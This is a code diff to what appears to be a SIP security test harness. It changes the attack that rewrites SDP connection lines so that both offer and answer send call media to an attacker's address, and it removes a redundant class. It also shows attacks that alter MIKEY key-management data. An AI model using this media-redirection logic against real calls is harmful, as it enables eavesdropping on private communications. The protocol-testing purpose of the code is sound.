@@ -95,19 +95,26 @@ class ChangeKeyMgmt(Forward):
 
 
 class ChangeSdp(Forward):
-    """Puts the attacker's address for the media into the offer, and leaves everything else unchanged."""
+    """Puts the attacker's address for the media into offer and answer, and leaves everything else unchanged.
+
+    Changed in one of them alone, it would gain the first packets and no more: under SRTP media go to where the
+    other side's packets come from.
+    """
 
     def __init__(self, address: str) -> None:
         self._connection = f"c=IN IP4 {address}"
 
     async def invite(self, request: Request) -> str | None:
         """Direct the callee's media to the attacker."""
-        self.redirect(request)
+        _edit_sdp(request, lambda sdp: sdp.map_lines(self._change))
         return "the attacker had the offer name their own address for the media"
 
-    def redirect(self, message: Request | Response) -> None:
-        """Change only the c= lines of a message's SDP."""
-        _edit_sdp(message, lambda sdp: sdp.map_lines(self._change))
+    def response(self, response: Response) -> str | None:
+        """Direct the caller's media to the attacker."""
+        if not _answers_invite(response):
+            return None
+        _edit_sdp(response, lambda sdp: sdp.map_lines(self._change))
+        return "the attacker had the answer name their own address for the media"
 
     def _change(self, line: str) -> str | None:
         return self._connection if line.startswith("c=") else line
@@ -131,20 +138,6 @@ class ChangeAnswerKeyMgmt(Forward):
             return None
         _edit_sdp(response, lambda sdp: sdp.map_lines(_change_key_mgmt))
         return "the attacker changed the MIKEY message of the answer"
-
-
-class ChangeAnswerSdp(Forward):
-    """Puts the attacker's address for the media into the answer, which no Identity covers."""
-
-    def __init__(self, address: str) -> None:
-        self._offer = ChangeSdp(address)
-
-    def response(self, response: Response) -> str | None:
-        """Direct the caller's media to the attacker."""
-        if not _answers_invite(response):
-            return None
-        self._offer.redirect(response)
-        return "the attacker had the answer name their own address for the media"
 
 
 class Hold(Forward):
@@ -225,7 +218,7 @@ SIMPLE: Mapping[str, Callable[[], Attack]] = {
     "strip-key-mgmt": StripKeyMgmt,
     "change-answer-key-mgmt": ChangeAnswerKeyMgmt,
 }
-"""Attacks without parameters; the others are change-sdp, change-answer-sdp, hold and resign."""
+"""Attacks without parameters; the others are change-sdp, hold and resign."""
 
 
 def _edit_sdp(message: Request | Response, change: Callable[[SessionDescription], SessionDescription]) -> None:
